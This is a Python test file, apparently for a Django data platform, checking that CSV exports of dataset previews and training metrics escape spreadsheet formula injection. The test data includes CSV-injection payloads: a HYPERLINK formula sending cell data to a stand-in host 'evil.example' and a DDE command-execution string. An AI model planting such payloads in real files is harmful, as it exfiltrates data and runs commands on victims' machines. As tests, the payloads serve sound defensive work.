"""CSV exports (the preview window, a run's history) are safe to open in a spreadsheet:
text cells that a spreadsheet would run as a formula (= + - @, tab, carriage return)
start with a single quote; real numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import re

import pytest

from collaboration.models import AuditEvent
from collaboration.renderers import csv_cell
from datasets.services import dataset_ingest
from training import services as training_services
from training.models import RunMetric

pytestmark = pytest.mark.django_db

SAFE_ATTACHMENT = re.compile(r'^attachment; filename="[A-Za-z0-9._-]+\.csv"$')
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "plain text",
]


@pytest.fixture
def hostile_dataset(team, tmp_path):
    rows = []
    for i, cell in enumerate(HOSTILE_CELLS):
        rows.append([cell, str(-1.5 - i), str(i - 3), f"patient {i}"])
    path = tmp_path / "hostile.csv"
    with path.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["note", "delta", "count", "=1+2"])  # a hostile column name too
        writer.writerows(rows)
    return dataset_ingest(user=team.owner, workspace=team.workspace, source=str(path), name="=evil")


def _csv(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv"), response["Content-Type"]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (-2.5, -2.5),
        (-3, -3),
        (None, ""),
        (float("nan"), ""),
        (True, "true"),
        ({"k": "=x"}, '{"k": "=x"}'),
        (["=x"], '["=x"]'),
    ],
)
def test_cells(value, expected):
    assert csv_cell(value) == expected


def test_preview_as_csv_escapes_formulas_and_keeps_numbers(team, client_for, hostile_dataset):
    client = client_for(team.viewer)
    response = client.get(f"/api/data/preview/{hostile_dataset.pk}?format=csv")
    assert response.status_code == 200, response.content
    assert SAFE_ATTACHMENT.match(response["Content-Disposition"]), response["Content-Disposition"]
    header, *rows = _csv(response)
    assert header == ["note", "delta", "count", "'=1+2"]
    assert [row[0] for row in rows] == ["'" + c if c[0] in "=+-@\t\r" else c for c in HOSTILE_CELLS]
    assert [row[1] for row in rows] == [str(-1.5 - i) for i in range(len(HOSTILE_CELLS))]
    assert [row[2] for row in rows] == [str(i - 3) for i in range(len(HOSTILE_CELLS))]
    assert rows[0][3] == "patient 0"
    # Every preview, CSV included, is audited.
    audit = AuditEvent.objects.filter(action="dataset.preview", object_id=str(hostile_dataset.pk))
    assert audit.count() == 1 and audit.get().user == team.viewer


def test_preview_window_and_json_are_unchanged(team, client_for, hostile_dataset):
    client = client_for(team.owner)
    response = client.get(f"/api/data/preview/{hostile_dataset.pk}?format=csv&offset=2&limit=3")
    header, *rows = _csv(response)
    assert [row[0] for row in rows] == ["'-2+3", "'@SUM(A1)", "'\t=1+1"]
    assert 'filename="evil-rows-2-5.csv"' in response["Content-Disposition"]
    as_json = client.get(f"/api/data/preview/{hostile_dataset.pk}?offset=0&limit=2").json()
    assert as_json["rows"][1][0] == "+1+1" and as_json["rows"][0][1] == -1.5
    assert AuditEvent.objects.filter(action="dataset.preview").count() == 2


def test_csv_errors_still_say_what_went_wrong(team, client_for, hostile_dataset):
    client = client_for(team.owner)
    response = client.get(f"/api/data/preview/{hostile_dataset.pk}?format=csv&limit=0")
    assert response.status_code == 400
    assert "Content-Disposition" not in response
    assert ["limit", '["Ensure this value is greater than or equal to 1."]'] in _csv(response)
    outsider = client_for(team.outsider).get(f"/api/data/preview/{hostile_dataset.pk}?format=csv")
    assert outsider.status_code == 404
    assert not AuditEvent.objects.filter(action="dataset.preview").exists()


def test_an_unknown_format_is_a_404_not_a_guess(team, client_for, hostile_dataset):
    response = client_for(team.owner).get(f"/api/data/preview/{hostile_dataset.pk}?format=xlsx")
    assert response.status_code == 404


def test_training_history_as_csv(team, client_for, hostile_dataset):
    config = training_services.run_config_build(
        dataset=hostile_dataset,
        data={"target": "delta", "model_type": "linear_regression"},
        user=team.owner,
    )
    run = training_services.run_start(
        user=team.owner, dataset=hostile_dataset, config=config, enqueue=False
    )
    for seq, (loss, r2) in enumerate([(2.5, -0.75), (1.25, -0.5), (0.5, 0.25)], start=1):
        RunMetric.objects.create(
            run=run, seq=seq, epoch=seq, values={"loss": loss, "val_loss": loss * 2, "r2": r2}
        )
    client = client_for(team.viewer)
    response = client.get(f"/api/viz/metrics/{run.pk}?format=csv")
    assert response.status_code == 200, response.content
    assert SAFE_ATTACHMENT.match(response["Content-Disposition"]), response["Content-Disposition"]
    assert str(run.pk) in response["Content-Disposition"]
    header, *rows = _csv(response)
    assert header == ["epoch", "seq", "loss", "val_loss", "r2", "timestamp"]
    assert [row[:5] for row in rows] == [
        ["1", "1", "2.5", "5.0", "-0.75"],
        ["2", "2", "1.25", "2.5", "-0.5"],
        ["3", "3", "0.5", "1.0", "0.25"],
    ]
    assert all(re.match(r"\d{4}-\d\d-\d\dT", row[5]) for row in rows)
    # The JSON body is what it was.
    body = client.get(f"/api/viz/metrics/{run.pk}").json()
    assert body["train_loss"] == [2.5, 1.25, 0.5] and len(body["history"]) == 3
    assert client_for(team.outsider).get(f"/api/viz/metrics/{run.pk}?format=csv").status_code == 404


def test_a_run_without_epochs_exports_just_the_header(team, client_for, hostile_dataset):
    config = training_services.run_config_build(
        dataset=hostile_dataset,
        data={"target": "delta", "model_type": "linear_regression"},
        user=team.owner,
    )
    run = training_services.run_start(
        user=team.owner, dataset=hostile_dataset, config=config, enqueue=False
    )
    response = client_for(team.owner).get(f"/api/viz/metrics/{run.pk}?format=csv")
    assert response.status_code == 200
    assert _csv(response) == [["epoch", "seq", "timestamp"]]
